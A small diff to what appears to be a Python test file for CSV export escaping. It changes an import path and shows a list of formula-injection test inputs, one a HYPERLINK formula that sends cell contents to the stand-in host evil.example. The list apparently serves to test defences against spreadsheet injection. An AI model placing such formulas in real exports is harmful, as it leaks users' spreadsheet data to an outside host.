@@ -7,7 +7,7 @@ import io
 
 import openpyxl
 
-from queue_server.exports import FORMULA_START, csv_cell, from_csv_cell
+from queue_server.stats.exports import FORMULA_START, csv_cell, from_csv_cell
 from tests.support import bearer
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此")', "+1", "-1+1", "@SUM(1+1)", "\t=1"]
